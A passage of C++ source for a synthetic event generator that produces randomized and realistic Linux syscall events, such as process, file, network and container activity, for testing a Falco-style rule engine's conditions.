                d.s = near_miss(lit.text);
            else
                d.s = base_of(l);
            return d;
        }
        case ValueKind::Int: {
            if (c.kind != ast::Constant::Kind::Int && c.kind != ast::Constant::Kind::Bool) return d;
            d.k = Draft::K::Int;
            uint64_t v = static_cast<uint64_t>(c.i);
            switch (e.op) {
            case CmpOp::Ne:
            case CmpOp::Gt:
                v += 1;
                break;
            case CmpOp::Lt:
                v -= 1;
                break;
            default:
                break;
            }
            if (t == FieldType::Bool) v = e.op == CmpOp::Ne ? !c.i : c.i;
            d.i = static_cast<int64_t>(v);
            return d;
        }
        case ValueKind::Ip:
            d.k = Draft::K::Ip;
            if (c.kind == ast::Constant::Kind::Net)
                d.ip = in_net(c, e.op != CmpOp::Ne);
            else if (c.kind == ast::Constant::Kind::Ip) {
                std::memcpy(d.ip.data(), c.ip, 16);
                if (e.op == CmpOp::Ne) d.ip[15] ^= 1;
            } else
                d.ip = adversarial_ip();
            return d;
        default:
            return d;
        }
    }

    void want_compare(const ast::Expr& e, bool want) {
        FieldRef ref;
        Transform via;
        if (!target_of(e.lhs, ref, via)) return;
        const FieldInfo& fi = FieldRegistry::instance().at(ref.field);
        if (ref.field == anc_ids().evt_type) return; // fixed by the event type
        const FieldPlan* plan = plan_of(ref);
        if (e.op == CmpOp::Exists) {
            if (want)
                assign(ref, plan ? scalar(fi, plan) : scalar(fi, nullptr));
            else if (!is_ancestor(ref.field) || !ref.has_arg)
                assign(ref, Draft{});
            return;
        }
        if (!want) {
            // Absent makes any comparison false; a random value usually does too.
            if (r.chance(0.5))
                assign(ref, Draft{});
            else
                assign(ref, scalar(fi, nullptr));
            return;
        }
        if (e.rhs.is_field_like()) {
            FieldRef rref;
            Transform rvia;
            if (via != Transform::None || !target_of(e.rhs, rref, rvia) || rvia != Transform::None)
                return;
            if (e.op != CmpOp::Eq && e.op != CmpOp::In) return;
            Draft d = scalar(fi, plan);
            if (kind_for(FieldRegistry::instance().at(rref.field).type) != kind_for(fi.type))
                return;
            assign(ref, d);
            assign(rref, d);
            return;
        }
        std::vector<const Operand*> items;
        if (e.rhs.kind == Operand::Kind::List)
            for (const auto& it : e.rhs.items)
                items.push_back(&it);
        else if (e.rhs.kind == Operand::Kind::Literal)
            items.push_back(&e.rhs);
        if (items.empty()) return;
        if (e.lhs_list) {
            Draft d;
            d.k = Draft::K::StrList;
            size_t n = 1 + r.below(3);
            for (size_t k = 0; k < n; ++k)
                d.strs.push_back((*items[r.below(items.size())]).text);
            if (e.op == CmpOp::Intersects && r.chance(0.5)) d.strs.push_back(junk(5));
            assign(ref, std::move(d));
            return;
        }
        if (e.mod == ast::ListMod::AllOf && (e.op == CmpOp::Contains || e.op == CmpOp::IContains) &&
            kind_for(fi.type) == ValueKind::Str && via == Transform::None) {
            Draft d;
            d.k = Draft::K::Str;
            for (const Operand* it : items)
                d.s += junk(3) + it->text;
            assign(ref, std::move(d));
            return;
        }
        Draft d = satisfying(e, *items[r.below(items.size())], fi.type, via);
        if (d.k != Draft::K::Absent) assign(ref, std::move(d));
    }

    void want(const ast::Expr& e, bool truth) {
        using K = ast::Expr::Kind;
        switch (e.kind) {
        case K::And:
        case K::Or: {
            bool all = (e.kind == K::And) == truth; // every child must have value `truth`
            if (all) {
                for (const auto& c : e.children)
                    want(*c, truth);
            } else {
                want(*e.children[r.below(e.children.size())], truth);
            }
            break;
        }
        case K::Not:
            want(*e.children[0], !truth);
            break;
        case K::Compare:
            want_compare(e, truth);
            break;
        default:
            break;
        }
    }

    void build_ancestors(SyntheticEvent& ev, uint16_t field, Ancestry& a) {
        const FieldPlan* plan = plan_of({field, false, ""});
        const FieldInfo& fi = FieldRegistry::instance().at(field);
        int64_t max_at = a.at.empty() ? 0 : a.at.rbegin()->first;
        size_t len =
            static_cast<size_t>(std::max<int64_t>(max_at, int64_t(r.below(4)))) + a.any.size();
        std::vector<Draft> chain(len);
        std::vector<bool> fixed(len, false);
        for (auto& [idx, d] : a.at) {
            chain[static_cast<size_t>(idx - 1)] = d;
            fixed[static_cast<size_t>(idx - 1)] = true;
        }
        for (auto& d : a.any) {
            std::vector<size_t> free;
            for (size_t k = 0; k < len; ++k)
                if (!fixed[k]) free.push_back(k);
            if (free.empty()) break;
            size_t k = r.pick(free);
            chain[k] = d;
            fixed[k] = true;
        }
        bool ints = kind_for(fi.type) == ValueKind::Int;
        std::vector<std::string> strs;
        std::vector<int64_t> is;
        for (size_t k = 0; k < len; ++k) {
            Draft d = fixed[k] ? chain[k] : scalar(fi, plan);
            if (ints)
                is.push_back(d.k == Draft::K::Int ? d.i : 0);
            else
                strs.push_back(d.k == Draft::K::Str ? d.s : std::string());
        }
        if (ints)
            ev.set_int_list(field, is);
        else
            ev.set_str_list(field, strs);
    }

    SyntheticEvent next() {
        auto types = known_event_types();
        uint32_t type;
        if (g.rule_types_.empty() || r.chance(0.10))
            type = static_cast<uint32_t>(r.below(types.size()));
        else
            type = r.pick(g.rule_types_);
        SyntheticEvent ev(type);
        for (const FieldPlan& p : g.plans_) {
            if (p.ref.field == anc_ids().evt_type) continue;
            Draft d = draw(p);
            if (d.k != Draft::K::Absent) apply(ev, p.ref, d);
        }
        if (!r.chance(Generator::kTargetedShare)) return ev;
        std::vector<uint32_t> cands = g.any_type_rules_;
        if (type < g.rules_by_type_.size())
            cands.insert(cands.end(), g.rules_by_type_[type].begin(), g.rules_by_type_[type].end());
        if (cands.empty()) return ev;
        drafts.clear();
        ancestry.clear();
        want(*g.targets_[r.pick(cands)], true);
        for (auto& [ref, d] : drafts) {
            if (d.k == Draft::K::Str && r.chance(0.1)) d.s = near_miss(d.s);
            apply(ev, ref, d);
        }
        for (auto& [field, a] : ancestry)
            build_ancestors(ev, field, a);
        return ev;
    }
};

namespace {

struct Collector {
    Generator& g;
    std::vector<FieldPlan>& plans;
    std::map<FieldRef, size_t>& index;
    std::vector<std::string>& pool;

    size_t plan_for(const Operand& o) {
        FieldRef ref{o.info->id, o.has_arg, o.has_arg ? o.arg : std::string()};
        bool anc = is_ancestor(ref.field);
        if (anc) ref = {ref.field, false, ""};
        auto [it, fresh] = index.emplace(ref, plans.size());
        if (fresh) plans.push_back({ref, o.info, anc, {}});
        // [0] of an ancestor field reads the process itself: plan that field too.
        if (anc && o.has_arg && o.arg == "0") {
            const FieldInfo& self =
                FieldRegistry::instance().at(static_cast<uint16_t>(ancestor_self(o.info->id)));
            FieldRef sref{self.id, false, ""};
            if (index.emplace(sref, plans.size()).second) plans.push_back({sref, &self, false, {}});
        }
        return index.at(ref);
    }

    // Field references an operand reads, each with the transformer around it (if any).
    void refs(const Operand& o, Transform via, std::vector<std::pair<size_t, Transform>>& out) {
        switch (o.kind) {
        case Operand::Kind::Field:
            if (o.info) out.push_back({plan_for(o), via});
            break;
        case Operand::Kind::Transformed:
            for (const auto& a : o.args)
                refs(a, via == Transform::None ? o.transform : via, out);
            break;
        case Operand::Kind::Literal:
            pool.push_back(o.text);
            break;
        case Operand::Kind::List:
            for (const auto& it : o.items)
                refs(it, via, out);
            break;
        }
    }

    void literal(const ast::Expr& e, const Operand& lit,
                 const std::vector<std::pair<size_t, Transform>>& lhs) {
        if (lit.kind == Operand::Kind::List) {
            for (const auto& it : lit.items)
                literal(e, it, lhs);
            return;
        }
        if (lit.kind != Operand::Kind::Literal) return;
        pool.push_back(lit.text);
        for (auto [p, via] : lhs)
            plans[p].literals.push_back({e.op, via, lit.text, lit.value});
    }

    void expr(const ast::Expr& root) {
        ast::for_each_node(root, [&](const ast::Expr& e) {
            if (e.kind != ast::Expr::Kind::Compare) return;
            std::vector<std::pair<size_t, Transform>> lhs;
            refs(e.lhs, Transform::None, lhs);
            if (e.op == CmpOp::Exists) return;
            if (e.rhs.is_field_like()) {
                std::vector<std::pair<size_t, Transform>> rhs;
                refs(e.rhs, Transform::None, rhs);
                return;
            }
            literal(e, e.rhs, lhs);
        });
    }
};

} // namespace

Generator Generator::random(const Ruleset& rules, uint64_t seed) {
    Generator g(Mode::Random, seed);
    Collector c{g, g.plans_, g.plan_index_, g.pool_};
    g.rules_by_type_.resize(known_event_types().size());
    std::vector<bool> named(known_event_types().size(), false);
    for (const Rule& rule : rules.rules) {
        if (!rule.condition) continue;
        c.expr(*rule.condition);
        if (!rule.enabled) continue;
        uint32_t t = static_cast<uint32_t>(g.targets_.size());
        g.targets_.push_back(rule.condition->clone());
        if (rule.evttypes.all) {
            g.any_type_rules_.push_back(t);
            continue;
        }
        for (const auto& name : rule.evttypes.names) {
            auto types = known_event_types();
            auto it = std::lower_bound(types.begin(), types.end(), name);
            if (it == types.end() || *it != name) continue;
            uint32_t id = static_cast<uint32_t>(it - types.begin());
            g.rules_by_type_[id].push_back(t);
            if (!named[id]) g.rule_types_.push_back(id);
            named[id] = true;
        }
    }
    std::sort(g.pool_.begin(), g.pool_.end());
    g.pool_.erase(std::unique(g.pool_.begin(), g.pool_.end()), g.pool_.end());
    return g;
}

SyntheticEvent Generator::next_random() {
    return RandomImpl(*this).next();
}

// ---- realistic mode ----------------------------------------------------------------------

namespace {

// Field ids the realistic generator fills, resolved once.
struct Ids {
    uint16_t evt_num = id_of("evt.num"), evt_dir = id_of("evt.dir"), evt_res = id_of("evt.res"),
             evt_rawres = id_of("evt.rawres"), evt_failed = id_of("evt.failed"),
             evt_arg = id_of("evt.arg"), is_open_read = id_of("evt.is_open_read"),
             is_open_write = id_of("evt.is_open_write"), is_open_exec = id_of("evt.is_open_exec"),
             is_open_create = id_of("evt.is_open_create");
    uint16_t proc_name = id_of("proc.name"), proc_exe = id_of("proc.exe"),
             proc_exepath = id_of("proc.exepath"), proc_cmdline = id_of("proc.cmdline"),
             proc_args = id_of("proc.args"), proc_pname = id_of("proc.pname"),
             proc_pexe = id_of("proc.pexe"), proc_pexepath = id_of("proc.pexepath"),
             proc_pcmdline = id_of("proc.pcmdline"), proc_aname = id_of("proc.aname"),
             proc_apid = id_of("proc.apid"), proc_aexepath = id_of("proc.aexepath"),
             proc_pid = id_of("proc.pid"), proc_ppid = id_of("proc.ppid"),
             proc_cwd = id_of("proc.cwd"), proc_tty = id_of("proc.tty"),
             proc_duration = id_of("proc.duration"), proc_sname = id_of("proc.sname"),
             proc_upper = id_of("proc.is_exe_upper_layer"),
             proc_memfd = id_of("proc.is_exe_from_memfd"),
             proc_writable = id_of("proc.is_exe_writable");
    uint16_t user_name = id_of("user.name"), user_uid = id_of("user.uid"),
             user_loginuid = id_of("user.loginuid"), group_gid = id_of("group.gid"),
             cap_effective = id_of("thread.cap_effective");
    uint16_t fd_num = id_of("fd.num"), fd_type = id_of("fd.type"),
             fd_typechar = id_of("fd.typechar"), fd_name = id_of("fd.name"),
             fd_nameraw = id_of("fd.nameraw"), fd_directory = id_of("fd.directory"),
             fd_filename = id_of("fd.filename"), fd_ip = id_of("fd.ip"), fd_cip = id_of("fd.cip"),
             fd_sip = id_of("fd.sip"), fd_lip = id_of("fd.lip"), fd_rip = id_of("fd.rip"),
             fd_port = id_of("fd.port"), fd_cport = id_of("fd.cport"), fd_sport = id_of("fd.sport"),
             fd_lport = id_of("fd.lport"), fd_rport = id_of("fd.rport"),
             fd_l4proto = id_of("fd.l4proto"), fd_sockfamily = id_of("fd.sockfamily"),
             fd_is_server = id_of("fd.is_server"), fd_net = id_of("fd.net"),
             fd_snet = id_of("fd.snet"), fd_cnet = id_of("fd.cnet"),
             fd_connected = id_of("fd.connected"), fd_name_changed = id_of("fd.name_changed"),
             fd_sip_name = id_of("fd.sip.name");
    uint16_t container_id = id_of("container.id"), container_name = id_of("container.name"),
             container_image = id_of("container.image"),
             container_repo = id_of("container.image.repository"),
             container_privileged = id_of("container.privileged"), k8s_ns = id_of("k8s.ns.name"),
             k8s_pod = id_of("k8s.pod.name");
};

const Ids& F() {
    static const Ids ids;
    return ids;
}

struct Container {
    std::string id, name, image, repo, ns, pod;
};

struct Proc {
    std::string name, exepath, cmdline, args, cwd, user;
    int64_t pid = 0, uid = 0, tty = 0, start_ns = 0;
    int container = -1; // index, -1: host
    std::string caps;
    std::vector<const Proc*> parents; // parent first
};

std::string args_of(const std::string& cmdline) {
    size_t sp = cmdline.find(' ');
    return sp == std::string::npos ? std::string() : cmdline.substr(sp + 1);
}

std::string base_name(std::string_view p) {
    size_t s = p.rfind('/');
    return std::string(s == std::string_view::npos ? p : p.substr(s + 1));
}

std::string dir_name(std::string_view p) {
    size_t s = p.rfind('/');
    if (s == std::string_view::npos) return ".";
    return s == 0 ? "/" : std::string(p.substr(0, s));
}

const char* const kRootCaps = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_KILL CAP_SETGID "
                              "CAP_SETUID CAP_NET_BIND_SERVICE CAP_SYS_ADMIN";

} // namespace

struct RealisticImpl {
    explicit RealisticImpl(Generator& gen) : g(gen) {}
    Generator& g;
    Rng r{g.rng_};

    // The process table: built once per generator, deterministic from the seed.
    struct World {
        std::vector<Container> containers;
        std::vector<std::unique_ptr<Proc>> procs; // hot first
        std::vector<const Proc*> exec_parents;    // shells and daemons that exec children
    };
    static std::unique_ptr<World> build(Generator& g) {
        auto w = std::make_unique<World>();
        Rng r{g.rng_};
        w->containers = {
            {"3ad7c2e4f1b9", "web-7d9f", "docker.io/library/nginx:1.25", "docker.io/library/nginx",
             "default", "web-7d9f8c-x2k4p"},
            {"91be04c7d2aa", "api-5c6b", "ghcr.io/acme/api:2.4.1", "ghcr.io/acme/api", "prod",
             "api-5c6b9-qq8rt"},
            {"c0ffee123456", "redis-0", "docker.io/library/redis:7", "docker.io/library/redis",
             "prod", "redis-0"},
            {"5e5e5e5e0a0a", "worker-1", "python:3.12-slim", "python", "batch",
             "worker-86d4-lm2vx"},
        };
        auto add = [&](std::string exepath, std::string cmdline, std::string user, int64_t uid,
                       std::vector<const Proc*> parents, int container = -1,
                       int64_t tty = 0) -> const Proc* {
            auto p = std::make_unique<Proc>();
            p->exepath = std::move(exepath);
            p->name = base_name(p->exepath).substr(0, 15);
            p->cmdline = std::move(cmdline);
            p->args = args_of(p->cmdline);
            p->user = std::move(user);
            p->uid = uid;
            p->parents = std::move(parents);
            p->container = container;
            p->tty = tty;
            p->pid = 100 + static_cast<int64_t>(w->procs.size()) * 37 +
                     static_cast<int64_t>(r.below(30));
            p->start_ns = 1'700'000'000'000'000'000 +
                          static_cast<int64_t>(r.below(1'000'000)) * 1'000'000'000;
            p->cwd = uid == 0 ? "/" : "/home/" + p->user;
            p->caps = uid == 0 ? kRootCaps : "";
            w->procs.push_back(std::move(p));
            return w->procs.back().get();
        };
        const Proc* systemd = add("/usr/lib/systemd/systemd", "systemd --system", "root", 0, {});
        const_cast<Proc*>(systemd)->pid = 1;
        const Proc* sshd = add("/usr/sbin/sshd", "sshd -D", "root", 0, {systemd});
        const Proc* sshd_s =
            add("/usr/sbin/sshd", "sshd: alice [priv]", "root", 0, {sshd, systemd});
        const Proc* bash =
            add("/usr/bin/bash", "bash", "alice", 1000, {sshd_s, sshd, systemd}, -1, 34816);
        const Proc* containerd = add("/usr/bin/containerd", "containerd", "root", 0, {systemd});
        const Proc* kubelet =
            add("/usr/bin/kubelet", "kubelet --config=/var/lib/kubelet/config.yaml", "root", 0,
                {systemd});
        const Proc* cron = add("/usr/sbin/cron", "cron -f", "root", 0, {systemd});
        const Proc* journald =
            add("/usr/lib/systemd/systemd-journald", "systemd-journald", "root", 0, {systemd});
        const Proc* nginx_host =
            add("/usr/sbin/nginx", "nginx -g daemon off;", "www-data", 33, {systemd});
        const Proc* postgres =
            add("/usr/lib/postgresql/16/bin/postgres", "postgres -D /var/lib/postgresql/16/main",
                "postgres", 112, {systemd});
        const Proc* python_cron =
            add("/usr/bin/python3", "python3 /opt/jobs/report.py", "root", 0, {cron, systemd});
        const Proc* java =
            add("/usr/bin/java", "java -Xmx2g -jar /opt/app/app.jar", "app", 1001, {systemd});
        const Proc* node = add("/usr/bin/node", "node /srv/app/server.js", "app", 1001, {systemd});
        const Proc* ssh_client =
            add("/usr/bin/ssh", "ssh git@github.com", "alice", 1000, {bash, sshd_s, sshd, systemd});
        std::vector<const Proc*> shims;
        for (int c = 0; c < 4; ++c) {
            const Proc* shim =
                add("/usr/bin/containerd-shim-runc-v2",
                    "containerd-shim-runc-v2 -namespace k8s.io -id " + w->containers[c].id, "root",
                    0, {systemd});
            shims.push_back(shim);
        }
        const Proc* c_nginx = add("/usr/sbin/nginx", "nginx: worker process", "www-data", 101,
                                  {shims[0], systemd}, 0);
        const Proc* c_api =
            add("/app/api", "/app/api --port 8080", "app", 1000, {shims[1], systemd}, 1);
        const Proc* c_redis = add("/usr/local/bin/redis-server", "redis-server *:6379", "redis",
                                  999, {shims[2], systemd}, 2);
        const Proc* c_py = add("/usr/local/bin/python3", "python3 worker.py --queue jobs", "root",
                               0, {shims[3], systemd}, 3);
        const Proc* c_sh =
            add("/bin/sh", "sh -c python3 worker.py", "root", 0, {shims[3], systemd}, 3);
        (void)c_sh;
        // Hot processes first: events pick low indexes more often.
        std::vector<const Proc*> hot = {c_nginx,    c_api,      node,        java,     postgres,
                                        c_redis,    kubelet,    containerd,  journald, c_py,
                                        bash,       nginx_host, python_cron, sshd,     cron,
                                        ssh_client, systemd,    sshd_s};
        std::vector<std::unique_ptr<Proc>> ordered;
        for (const Proc* p : hot)
            for (auto& up : w->procs)
                if (up.get() == p) ordered.push_back(std::move(up));
        for (auto& up : w->procs)
            if (up) ordered.push_back(std::move(up));
        w->procs = std::move(ordered);
        w->exec_parents = {bash,       bash,    bash, cron, python_cron, kubelet,
                           containerd, systemd, c_sh, c_py, java,        node};
        return w;
    }

    World& w = *static_cast<World*>(g.world_.get());
    const Ids& f = F();

    const Proc& pick_proc() {
        double u = std::uniform_real_distribution<double>(0, 1)(g.rng_);
        size_t i = static_cast<size_t>(u * u * static_cast<double>(w.procs.size()));
        return *w.procs[std::min(i, w.procs.size() - 1)];
    }

    void set_arg(SyntheticEvent& e, const char* key, std::string_view v) {
        std::string k(key);
        e.set_str(f.evt_arg, v, &k);
    }

    // Fields every event carries: the process, its ancestry, user, container.
    void common(SyntheticEvent& e, const Proc& p) {
        e.set_int(f.evt_num, static_cast<int64_t>(++g.evt_num_));
        e.set_str(f.evt_dir, "<");
        e.set_str(f.proc_name, p.name);
        e.set_str(f.proc_exe, p.exepath);
        e.set_str(f.proc_exepath, p.exepath);
        e.set_str(f.proc_cmdline, p.cmdline);
        e.set_str(f.proc_args, p.args);
        e.set_int(f.proc_pid, p.pid);
        e.set_str(f.proc_cwd, p.cwd);
        e.set_int(f.proc_tty, p.tty);
        e.set_int(f.proc_duration,
                  5'000'000'000LL + static_cast<int64_t>(r.below(1000)) * 1'000'000'000LL);
        e.set_int(f.proc_upper, 0);
        e.set_int(f.proc_memfd, 0);
        e.set_int(f.proc_writable, 0);
        e.set_str(f.user_name, p.user);
        e.set_int(f.user_uid, p.uid);
        e.set_int(f.user_loginuid, p.tty ? p.uid : -1);
        e.set_int(f.group_gid, p.uid);
        e.set_str(f.cap_effective, p.caps);
        if (!p.parents.empty()) {
            const Proc& pp = *p.parents[0];
            e.set_str(f.proc_pname, pp.name);
            e.set_str(f.proc_pexe, pp.exepath);
            e.set_str(f.proc_pexepath, pp.exepath);
            e.set_str(f.proc_pcmdline, pp.cmdline);
            e.set_int(f.proc_ppid, pp.pid);
        }
        set_ancestors(e, p.parents);
        container(e, p.container);
    }

    void set_ancestors(SyntheticEvent& e, const std::vector<const Proc*>& parents) {
        std::vector<std::string> names, paths;
        std::vector<int64_t> pids;
        for (const Proc* a : parents) {
            names.push_back(a->name);
            paths.push_back(a->exepath);
            pids.push_back(a->pid);
        }
        e.set_str_list(f.proc_aname, names);
        e.set_str_list(f.proc_aexepath, paths);
        e.set_int_list(f.proc_apid, pids);
    }

    void container(SyntheticEvent& e, int c) {
        if (c < 0) {
            e.set_str(f.container_id, "host");
            e.set_str(f.container_name, "host");
            e.set_int(f.container_privileged, 0);
            return;
        }
        const Container& k = w.containers[static_cast<size_t>(c)];
        e.set_str(f.container_id, k.id);
        e.set_str(f.container_name, k.name);
        e.set_str(f.container_image, k.image);
        e.set_str(f.container_repo, k.repo);
        e.set_int(f.container_privileged, 0);
        e.set_str(f.k8s_ns, k.ns);
        e.set_str(f.k8s_pod, k.pod);
    }

    void result(SyntheticEvent& e, int64_t rawres) {
        static const std::pair<int64_t, const char*> kErr[] = {
            {-2, "ENOENT"},        {-13, "EACCES"},        {-11, "EAGAIN"},
            {-115, "EINPROGRESS"}, {-111, "ECONNREFUSED"}, {-1, "EPERM"}};
        e.set_int(f.evt_rawres, rawres);
        e.set_int(f.evt_failed, rawres < 0);
        const char* name = "SUCCESS";
        for (auto& [v, n] : kErr)
            if (v == rawres) name = n;
        e.set_str(f.evt_res, name);
    }

    void file_fd(SyntheticEvent& e, const std::string& path, int64_t fdnum) {
        e.set_int(f.fd_num, fdnum);
        e.set_str(f.fd_type, "file");
        e.set_str(f.fd_typechar, "f");
        e.set_str(f.fd_name, path);
        e.set_str(f.fd_nameraw, path);
        e.set_str(f.fd_directory, dir_name(path));
        e.set_str(f.fd_filename, base_name(path));
    }

    std::string path_for(const Proc& p, bool write) {
        static const char* kEtc[] = {"/etc/ld.so.cache",
                                     "/etc/passwd",
                                     "/etc/group",
                                     "/etc/hosts",
                                     "/etc/resolv.conf",
                                     "/etc/nsswitch.conf",
                                     "/etc/localtime",
                                     "/etc/os-release",
                                     "/etc/ssl/certs/ca-certificates.crt",
                                     "/etc/nginx/nginx.conf",
                                     "/etc/host.conf",
                                     "/etc/gai.conf"};
        static const char* kLib[] = {"/usr/lib/x86_64-linux-gnu/libc.so.6",
                                     "/usr/lib/x86_64-linux-gnu/libssl.so.3",
                                     "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
                                     "/usr/lib/x86_64-linux-gnu/libz.so.1",
                                     "/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
                                     "/usr/lib/python3.12/os.py",
                                     "/usr/lib/locale/locale-archive",
                                     "/usr/lib/jvm/java-17/lib/modules",
                                     "/usr/share/zoneinfo/UTC"};
        static const char* kProc[] = {"stat", "status", "cgroup", "cmdline", "maps", "fd"};
        static const char* kTmp[] = {"/tmp/tmp", "/tmp/.X11-unix/X", "/tmp/pip-build-",
                                     "/var/tmp/systemd-private-"};
        if (write) {
            switch (r.below(4)) {
            case 0:
                return std::string(kTmp[r.below(4)]) + std::to_string(r.below(100000));
            case 1:
                return "/home/alice/project/build/obj" + std::to_string(r.below(500)) + ".o";
            case 2:
                return r.chance(0.5) ? "/var/log/nginx/access.log" : "/var/log/syslog";
            default:
                return "/var/lib/postgresql/16/main/base/16384/" +
                       std::to_string(2600 + r.below(200));
            }
        }
        switch (r.below(10)) {
        case 0:
        case 1:
        case 2:
            return kEtc[r.below(std::size(kEtc))];
        case 3:
        case 4:
        case 5:
            return kLib[r.below(std::size(kLib))];
        case 6:
            if (r.chance(0.3)) return r.chance(0.5) ? "/proc/meminfo" : "/proc/loadavg";
            return "/proc/" + std::to_string(p.pid) + "/" + kProc[r.below(std::size(kProc))];
        case 7:
            return std::string(kTmp[r.below(4)]) + std::to_string(r.below(100000));
        case 8:
            return r.chance(0.5)
                       ? "/home/alice/.bashrc"
                       : "/home/alice/project/src/file" + std::to_string(r.below(300)) + ".c";
        default:
            return r.chance(0.5) ? "/dev/null" : "/dev/urandom";
        }
    }

    void open_event(SyntheticEvent& e) {
        static const char* kOpen[] = {"openat", "openat", "openat", "openat", "open", "openat2"};
        e.set_type(event_type_id_of(kOpen[r.below(std::size(kOpen))]));
        const Proc& p = pick_proc();
        common(e, p);
        bool write = r.chance(0.2);
        std::string path = path_for(p, write);
        bool fail = r.chance(0.05);
        int64_t fdnum = fail ? -1 : 3 + static_cast<int64_t>(r.below(60));
        file_fd(e, path, fdnum);
        e.set_int(f.is_open_read, !write);
        e.set_int(f.is_open_write, write);
        e.set_int(f.is_open_exec, 0);
        bool create = write && !path.starts_with("/var/log");
        e.set_int(f.is_open_create, create);
        std::string flags = write ? (create ? (r.chance(0.5) ? "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC"
                                                             : "O_RDWR|O_CREAT|O_CLOEXEC")
                                            : "O_WRONLY|O_APPEND|O_CLOEXEC")
                                  : "O_RDONLY|O_CLOEXEC";
        set_arg(e, "flags", flags);
        set_arg(e, "name", path);
        result(e, fail ? (r.chance(0.7) ? -2 : -13) : fdnum);
    }

    // The image a process execs, with its parent.
    void exec_event(SyntheticEvent& e) {
        static const char* kBins[][2] = {
            {"/usr/bin/ls", "ls -la"},
            {"/usr/bin/cat", "cat /etc/os-release"},
            {"/usr/bin/grep", "grep -r TODO src"},
            {"/usr/bin/ps", "ps aux"},
            {"/usr/bin/sed", "sed -n 1,20p config.yaml"},
            {"/usr/bin/awk", "awk {print $1}"},
            {"/usr/bin/python3", "python3 manage.py migrate"},
            {"/usr/bin/curl", "curl -s http://localhost:8080/healthz"},
            {"/usr/bin/git", "git status"},
            {"/usr/bin/date", "date +%s"},
            {"/usr/bin/id", "id -u"},
            {"/usr/bin/uname", "uname -r"},
            {"/usr/bin/sleep", "sleep 5"},
            {"/usr/bin/find", "find . -name *.log"},
            {"/usr/bin/tar", "tar czf backup.tgz data"},
            {"/usr/bin/systemctl", "systemctl is-active nginx"},
            {"/usr/bin/kubectl", "kubectl get pods"},
            {"/usr/bin/head", "head -n 5 /var/log/syslog"},
            {"/usr/bin/sh", "sh -c /usr/local/bin/healthcheck"},
            {"/usr/bin/bash", "bash /opt/jobs/rotate.sh"},
            {"/usr/sbin/iptables", "iptables -L -n"},
            {"/usr/bin/ssh", "ssh deploy@10.0.3.4"},
        };
        e.set_type(event_type_id_of(r.chance(0.95) ? "execve" : "execveat"));
        const Proc& parent = *w.exec_parents[r.below(w.exec_parents.size())];
        Proc child;
        const auto& b = kBins[r.below(std::size(kBins))];
        child.exepath = b[0];
        child.name = base_name(child.exepath);
        child.cmdline = b[1];
        child.args = args_of(child.cmdline);
        child.user = parent.user;
        child.uid = parent.uid;
        child.cwd = parent.cwd;
        child.tty = parent.tty;
        child.caps = parent.caps;
        child.container = parent.container;
        child.pid = 20000 + static_cast<int64_t>(r.below(40000));
        child.parents.push_back(&parent);
        child.parents.insert(child.parents.end(), parent.parents.begin(), parent.parents.end());
        common(e, child);
        e.set_int(f.proc_duration, static_cast<int64_t>(r.below(2'000'000)));
        result(e, 0);
    }

    static void net_fields(SyntheticEvent& e, const Ids& f, bool v6, bool udp, const Ip16& cip,
                           int64_t cport, const Ip16& sip, int64_t sport, bool server) {
        e.set_str(f.fd_type, v6 ? "ipv6" : "ipv4");
        e.set_str(f.fd_typechar, v6 ? "6" : "4");
        e.set_str(f.fd_sockfamily, v6 ? "ip" : "ip");
        e.set_str(f.fd_l4proto, udp ? "udp" : "tcp");
        e.set_ip(f.fd_cip, cip.data());
        e.set_ip(f.fd_sip, sip.data());
        e.set_ip(f.fd_ip, sip.data());
        e.set_ip(f.fd_net, sip.data());
        e.set_ip(f.fd_snet, sip.data());
        e.set_ip(f.fd_cnet, cip.data());
        e.set_ip(f.fd_lip, server ? sip.data() : cip.data());
        e.set_ip(f.fd_rip, server ? cip.data() : sip.data());
        e.set_int(f.fd_cport, cport);
        e.set_int(f.fd_sport, sport);
        e.set_int(f.fd_port, sport);
        e.set_int(f.fd_lport, server ? sport : cport);
        e.set_int(f.fd_rport, server ? cport : sport);
        e.set_int(f.fd_is_server, server);
        e.set_int(f.fd_connected, 1);
        e.set_int(f.fd_name_changed, 0);
        e.set_str(f.fd_name, ip_text(cip.data()) + ":" + std::to_string(cport) + "->" +
                                 ip_text(sip.data()) + ":" + std::to_string(sport));
    }

    void net_event(SyntheticEvent& e) {
        static const int64_t kPorts[] = {53, 80, 443, 5432, 6379, 8080, 22, 9090, 3306, 10250};
        bool accept = r.chance(0.35);
        e.set_type(event_type_id_of(accept ? (r.chance(0.5) ? "accept" : "accept4") : "connect"));
        const Proc& p = pick_proc();
        common(e, p);
        bool is6 = r.chance(0.1);
        Ip16 local = is6 ? v6({0xfd00, 0, 0, 0, 0, 0, 0, 0x10}) : v4(10, 0, 1, 7);
        Ip16 remote;
        switch (r.below(5)) {
        case 0:
            remote = is6 ? v6({0, 0, 0, 0, 0, 0, 0, 1}) : v4(127, 0, 0, 1);
            break;
        case 1:
            remote =
                v4(10, 0, static_cast<uint8_t>(r.below(8)), static_cast<uint8_t>(r.below(250) + 1));
            break;
        case 2:
            remote = v4(172, 16, static_cast<uint8_t>(r.below(32)),
                        static_cast<uint8_t>(r.below(250) + 1));
            break;
        case 3:
            remote = v4(192, 168, 1, static_cast<uint8_t>(r.below(250) + 1));
            break;
        default:
            remote = is6 ? v6({0x2606, 0x4700, 0, 0, 0, 0, 0, 0x1111})
                         : v4(140, 82, 112, static_cast<uint8_t>(r.below(8)));
        }
        if (is6 && remote[10] == 0xff) remote = v6({0, 0, 0, 0, 0, 0, 0, 1});
        int64_t port = kPorts[r.below(std::size(kPorts))];
        if (p.name == "ssh") port = 22;
        int64_t eph = 32768 + static_cast<int64_t>(r.below(28000));
        bool udp = port == 53;
        if (accept)
            net_fields(e, f, is6, false, remote, eph, local, port, true);
        else
            net_fields(e, f, is6, udp, local, eph, remote, port, false);
        int64_t fdnum = 3 + static_cast<int64_t>(r.below(200));
        e.set_int(f.fd_num, fdnum);
        int64_t res = accept ? fdnum : (r.chance(0.2) ? -115 : 0);
        if (r.chance(0.03)) res = -111;
        result(e, res);
    }

    void close_event(SyntheticEvent& e) {
        e.set_type(event_type_id_of("close"));
        const Proc& p = pick_proc();
        common(e, p);
        int64_t fdnum = 3 + static_cast<int64_t>(r.below(60));
        if (r.chance(0.7)) {
